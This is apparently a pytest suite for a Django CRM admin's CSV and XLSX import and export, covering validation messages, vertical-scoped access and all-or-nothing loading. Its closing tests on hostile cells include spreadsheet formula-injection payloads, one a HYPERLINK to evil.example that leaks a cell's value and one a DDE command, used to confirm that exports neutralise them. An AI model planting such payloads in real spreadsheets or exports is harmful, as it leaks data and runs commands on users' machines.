"""Bulk import/export in the admin: CSV and XLSX, the commands' row rules, scoped, all or nothing."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from accounts.models import Account, Contact
from accounts.resources import AccountResource, ContactResource
from accounts.services import import_accounts
from core.days import business_today
from tests import factories
from visits.models import Requirement, Visit
from visits.resources import RequirementResource, VisitResource

pytestmark = pytest.mark.django_db

ACCOUNT_HEADER = "external_id,name,local_name,vertical,headcount,region,stage,csm"


def csv_dataset(text: str) -> tablib.Dataset:
    return tablib.Dataset().load(text, format="csv")


def errors_of(result) -> list[str]:
    return [str(e) for row in result.invalid_rows for e in row.error.messages]


def test_accounts_import_creates_then_updates(csm):
    text = (
        f"{ACCOUNT_HEADER}\n"
        "haier,Haier,海尔,manufacturing,80000,East China,adopting,csm_m\n"
        "midea,Midea,美的,manufacturing,,South China,,\n"
    )
    result = AccountResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert not result.has_errors() and not result.has_validation_errors()
    haier = Account.objects.get(external_id="haier")
    assert (haier.headcount, haier.stage, haier.owner_csm) == (80_000, "adopting", csm)
    assert Account.objects.get(external_id="midea").stage == "prospect"
    assert haier.history.latest().history_user == csm

    again = f"{ACCOUNT_HEADER}\nhaier,Haier Group,海尔,manufacturing,90000,East China,,csm_m\n"
    result = AccountResource().import_data(csv_dataset(again), dry_run=False, user=csm)
    assert not result.has_validation_errors()
    haier.refresh_from_db()
    assert (haier.name, haier.headcount, haier.stage) == ("Haier Group", 90_000, "adopting")
    assert Account.objects.count() == 2


def test_accounts_import_rejects_like_the_command_and_loads_nothing(csm):
    rows = [
        "ok,Fine,,manufacturing,100,,,",
        "bad-vertical,Bad,,nowhere,100,,,",
        "bad-headcount,Bad,,manufacturing,-5,,,",
        "bad-stage,Bad,,manufacturing,100,,won,",
        "bad-csm,Bad,,manufacturing,100,,,nobody",
    ]
    text = ACCOUNT_HEADER + "\n" + "\n".join(rows) + "\n"
    result = AccountResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert result.has_validation_errors()
    assert not Account.objects.exists()
    messages = errors_of(result)
    assert len(messages) == 4
    # The same reasons, for the same lines, as import_accounts gives.
    parsed = [
        (i + 2, dict(zip(ACCOUNT_HEADER.split(","), r.split(","), strict=True)))
        for i, r in enumerate(rows)
    ]
    report = import_accounts(rows=parsed, skip_invalid=False)
    expected = [f"line {e.line}: {e.field}: {e.reason}" for e in report.rejected]
    assert messages == expected
    assert messages[0] == "line 3: vertical: unknown vertical 'nowhere'"


def test_accounts_import_is_scoped_to_the_importers_verticals(csm, other):
    text = (
        f"{ACCOUNT_HEADER}\n"
        "retail-new,New,,consumer_retail,100,,,\n"
        f"{other.account.external_id},Taken over,,manufacturing,100,,,\n"
        "mine,Mine,,manufacturing,100,,,csm_r\n"
    )
    result = AccountResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert errors_of(result) == [
        "line 2: vertical: unknown vertical 'consumer_retail'",
        "line 3: external_id: belongs to an account outside your verticals",
        "line 4: csm: unknown user 'csm_r'",
    ]
    other.account.refresh_from_db()
    assert other.account.vertical.code == "consumer_retail"


def test_accounts_import_reads_xlsx_numbers_and_empty_cells(csm):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(ACCOUNT_HEADER.split(","))
    sheet.append(["sany", "Sany", "三一", "manufacturing", 120000, "Central", "expanding", None])
    buffer = io.BytesIO()
    book.save(buffer)
    dataset = tablib.Dataset().load(buffer.getvalue(), format="xlsx")
    result = AccountResource().import_data(dataset, dry_run=False, user=csm)
    assert not result.has_validation_errors(), errors_of(result)
    sany = Account.objects.get(external_id="sany")
    assert (sany.headcount, sany.local_name, sany.owner_csm) == (120_000, "三一", None)


def test_contacts_import_upserts_by_account_and_name(csm, own, other):
    header = "account,name,title,role,email,phone"
    text = (
        f"{header}\n"
        f"{own.account.external_id},Li Na,CIO,it_owner,li@example.com,\n"
        f"{own.account.external_id},Li Na,CTO,it_owner,li@example.com,\n"
    )
    result = ContactResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert not result.has_validation_errors(), errors_of(result)
    assert Contact.objects.get(account=own.account, name="Li Na").title == "CTO"
    bad = (
        f"{header}\n"
        f"{other.account.external_id},Spy,,user,,\n"
        f"{own.account.external_id},Wu,,boss,,\n"
        f"{own.account.external_id},Wu,,user,not-an-email,\n"
    )
    result = ContactResource().import_data(csv_dataset(bad), dry_run=False, user=csm)
    messages = errors_of(result)
    assert messages[:2] == [
        f"line 2: account: unknown account '{other.account.external_id}'",
        "line 3: role: 'boss' is not one of executive_sponsor, decision_maker, champion, it_owner, user",
    ]
    assert any("email" in getattr(row.error, "error_dict", {}) for row in result.invalid_rows)
    assert not Contact.objects.filter(name__in=["Spy", "Wu"]).exists()


def test_visits_and_requirements_import_years_of_history(csm, own):
    header = "account,visited_on,visit_type,author,purpose,summary,sentiment"
    text = (
        f"{header}\n"
        f"{own.account.external_id},2021-03-04,business_review,csm_m,QBR,Old system notes,positive\n"
        f"{own.account.external_id},2022-05-06,,csm_m,,,\n"
    )
    result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert not result.has_validation_errors(), errors_of(result)
    assert Visit.objects.filter(account=own.account, visited_on__year__lt=2023).count() == 2
    VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert Visit.objects.filter(account=own.account, visited_on__year__lt=2023).count() == 2

    bad = f"{header}\n{own.account.external_id},2099-01-01,,csm_m,,,\n{own.account.external_id},04/03/2021,,csm_m,,,\n"
    messages = errors_of(VisitResource().import_data(csv_dataset(bad), dry_run=False, user=csm))
    assert messages == [
        "line 2: visited_on: 2099-01-01 is in the future: a visit is dated today "
        f"({business_today().isoformat()}) at the latest.",
        "line 3: visited_on: '04/03/2021' is not a date (YYYY-MM-DD)",
    ]

    header = "account,title,description,category,priority,status,owner,raised_at,first_response_at,resolved_at"
    text = (
        f"{header}\n"
        f"{own.account.external_id},Connect U8,,integration,high,resolved,csm_m,"
        "2021-03-04 10:00,2021-03-04 15:30,2021-04-01 09:00\n"
    )
    result = RequirementResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert not result.has_validation_errors(), errors_of(result)
    requirement = Requirement.objects.get(title="Connect U8")
    assert requirement.response_hours == 5.5
    bad = (
        f"{header}\n"
        f"{own.account.external_id},Backwards,,feature,,,,2021-03-04 10:00,2021-03-03 10:00,\n"
    )
    messages = errors_of(
        RequirementResource().import_data(csv_dataset(bad), dry_run=False, user=csm)
    )
    assert messages == ["line 2: first_response_at: comes before raised_at"]


def test_import_through_the_admin_then_export_only_my_verticals(client, csm, own, other):
    client.force_login(csm)
    url = reverse("admin:accounts_account_import")
    form = client.get(url).context["form"]
    csv_index = next(value for value, label in form.fields["format"].choices if label == "csv")
    upload = SimpleUploadedFile(
        "accounts.csv",
        f"{ACCOUNT_HEADER}\nbyd,BYD,比亚迪,manufacturing,700000,South China,onboarding,csm_m\n".encode(),
    )
    response = client.post(url, {"format": csv_index, "import_file": upload})
    assert response.status_code == 200
    confirm = response.context["confirm_form"]
    assert not Account.objects.filter(external_id="byd").exists()  # a dry run so far
    response = client.post(
        reverse("admin:accounts_account_process_import"),
        {name: confirm[name].value() for name in confirm.fields},
    )
    assert response.status_code == 302
    assert Account.objects.get(external_id="byd").owner_csm == csm

    request = RequestFactory().get("/admin/accounts/account/")
    request.user = csm
    model_admin = admin.site._registry[Account]
    exported = AccountResource().export(model_admin.get_export_queryset(request))
    assert set(exported["external_id"]) == {own.account.external_id, "byd"}
    assert exported.headers == ACCOUNT_HEADER.split(",")


def test_bad_file_in_the_admin_lists_the_reasons_and_loads_nothing(client, csm):
    client.force_login(csm)
    url = reverse("admin:accounts_account_import")
    form = client.get(url).context["form"]
    csv_index = next(value for value, label in form.fields["format"].choices if label == "csv")
    upload = SimpleUploadedFile(
        "accounts.csv", f"{ACCOUNT_HEADER}\nx,X,,manufacturing,lots,,,\n".encode()
    )
    response = client.post(url, {"format": csv_index, "import_file": upload})
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert "line 2: headcount: &#x27;lots&#x27; is not a whole number" in response.content.decode()
    assert not Account.objects.filter(external_id="x").exists()


def test_contributors_export_but_do_not_import(client, own):
    bd = factories.person("bd", "manufacturing", username="bd_m")
    client.force_login(bd)
    assert client.get(reverse("admin:accounts_account_import")).status_code == 403
    assert client.get(reverse("admin:accounts_account_export")).status_code == 200


def test_requirements_xlsx_through_the_admin(client, csm, own):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(
        [
            "account",
            "title",
            "description",
            "category",
            "priority",
            "status",
            "owner",
            "raised_at",
            "first_response_at",
            "resolved_at",
        ]
    )
    sheet.append(
        [
            own.account.external_id,
            "Single sign-on with the HR system",
            "",
            "integration",
            "high",
            "open",
            "csm_m",
            dt.datetime(2024, 6, 3, 9, 30),
            None,
            None,
        ]
    )
    buffer = io.BytesIO()
    book.save(buffer)
    client.force_login(csm)
    url = reverse("admin:visits_requirement_import")
    form = client.get(url).context["form"]
    xlsx = next(value for value, label in form.fields["format"].choices if label == "xlsx")
    upload = SimpleUploadedFile("requirements.xlsx", buffer.getvalue())
    response = client.post(url, {"format": xlsx, "import_file": upload})
    confirm = response.context["confirm_form"]
    response = client.post(
        reverse("admin:visits_requirement_process_import"),
        {name: confirm[name].value() for name in confirm.fields},
    )
    assert response.status_code == 302
    requirement = Requirement.objects.get(title="Single sign-on with the HR system")
    assert timezone.localtime(requirement.raised_at).replace(tzinfo=None) == dt.datetime(
        2024, 6, 3, 9, 30
    )
    assert requirement.owner == csm


def test_a_file_without_the_expected_columns_is_refused_as_a_whole(client, csm):
    result = AccountResource().import_data(
        csv_dataset("external_id,name\nx,X\n"), dry_run=False, user=csm
    )
    assert result.has_errors()
    assert str(result.base_errors[0].error) == (
        "line 1: header lacks column(s) local_name, vertical, headcount, region, stage, csm; "
        "expected external_id,name,local_name,vertical,headcount,region,stage,csm"
    )
    assert not Account.objects.exists()


def test_the_admin_shows_a_missing_column_without_a_server_error(client, csm):
    client.force_login(csm)
    url = reverse("admin:accounts_account_import")
    form = client.get(url).context["form"]
    csv_index = next(value for value, label in form.fields["format"].choices if label == "csv")
    upload = SimpleUploadedFile("accounts.csv", b"external_id,name\nx,X\n")
    response = client.post(url, {"format": csv_index, "import_file": upload})
    assert response.status_code == 200
    assert "line 1: header lacks column(s) local_name" in response.content.decode()
    assert "confirm_form" not in response.context


def test_a_later_row_for_the_same_account_wins_as_in_the_command(csm):
    text = (
        f"{ACCOUNT_HEADER}\n"
        "gree,Gree,,manufacturing,100,,adopting,\n"
        "gree,Gree Electric,,manufacturing,200,,,\n"
    )
    result = AccountResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert not result.has_validation_errors(), errors_of(result)
    gree = Account.objects.get(external_id="gree")
    assert (gree.name, gree.headcount, gree.stage) == ("Gree Electric", 200, "adopting")


# --- hostile cells (issue #15): forged people on import, formulas on export ---

VISIT_HEADER = "account,visited_on,visit_type,author,purpose,summary,sentiment"


def test_a_visit_import_cannot_name_another_author(csm, coo, own):
    lead = factories.person("lead", "manufacturing", username="lead_m")
    account = own.account.external_id
    for author in (coo.username, lead.username):
        text = f"{VISIT_HEADER}\n{account},2024-01-02,executive,{author},QBR,,positive\n"
        result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
        assert errors_of(result) == [
            "line 2: author: must be you (csm_m): a CSM or lead imports only visits they made"
        ]
    assert not Visit.objects.filter(visited_on=dt.date(2024, 1, 2)).exists()
    text = f"{VISIT_HEADER}\n{account},2024-01-02,executive,csm_m,QBR,,positive\n"
    result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert not result.has_validation_errors(), errors_of(result)


def test_the_coo_imports_old_visits_of_anyone_they_may_name(csm, coo, own):
    text = f"{VISIT_HEADER}\n{own.account.external_id},2024-01-02,check_in,csm_m,,,\n"
    result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=coo)
    assert not result.has_validation_errors(), errors_of(result)
    assert Visit.objects.get(visited_on=dt.date(2024, 1, 2)).author == csm


def test_people_columns_accept_only_people_the_importer_may_name(csm, own, other):
    account = own.account.external_id
    header = "account,title,description,category,priority,status,owner,raised_at,first_response_at,resolved_at"
    text = f"{header}\n{account},Stranger,,feature,,,csm_r,2024-01-02 10:00,,\n"
    result = RequirementResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert errors_of(result) == ["line 2: owner: unknown user 'csm_r'"]
    text = f"{ACCOUNT_HEADER}\nnewco,NewCo,,manufacturing,,,,csm_r\n"
    result = AccountResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert errors_of(result) == ["line 2: csm: unknown user 'csm_r'"]


def test_a_summary_over_the_limit_is_refused_by_the_import_and_the_admin_form(client, csm, own):
    account = own.account.external_id
    text = f"{VISIT_HEADER}\n{account},2024-01-02,,csm_m,,{'x' * 10_001},\n"
    result = VisitResource().import_data(csv_dataset(text), dry_run=False, user=csm)
    assert errors_of(result) == ["line 2: summary: longer than 10000 characters"]
    client.force_login(csm)
    response = client.post(
        reverse("admin:visits_visit_add"),
        {
            "account": own.account.pk,
            "visited_on": "2024-01-02",
            "visit_type": "check_in",
            "author": csm.pk,
            "sentiment": "neutral",
            "summary": "x" * 10_001,
        },
    )
    assert response.status_code == 200
    assert "at most 10000 characters" in str(response.context["adminform"].form.errors["summary"])


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, model: str, label: str) -> bytes:
    url = reverse(f"admin:visits_{model}_export")
    form = client.get(url).context["form"]
    data = {name: form[name].value() for name in form.fields if form[name].value() is not None}
    data["format"] = next(value for value, text in form.fields["format"].choices if text == label)
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("label", ["csv", "xlsx"])
def test_exports_neutralise_cells_that_spreadsheets_run_as_formulas(client, csm, own, label):
    for n, title in enumerate(FORMULAS):
        factories.RequirementFactory(
            account=own.account, title=title, raised_at=timezone.now() - dt.timedelta(hours=n + 3)
        )
    client.force_login(csm)
    content = _export(client, "requirement", label)
    if label == "csv":
        cells = [row[1] for row in csv_dataset(content.decode("utf-8-sig"))]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        rows = list(sheet.iter_rows(min_row=2))
        assert all(row[1].data_type == "s" for row in rows)
        # XML reads a carriage return back as a line feed.
        cells = [row[1].value.replace("\n", "\r") for row in rows]
    for title in FORMULAS:
        assert "'" + title in cells, (title, cells)
    assert own.requirement.title in cells  # ordinary text is left alone
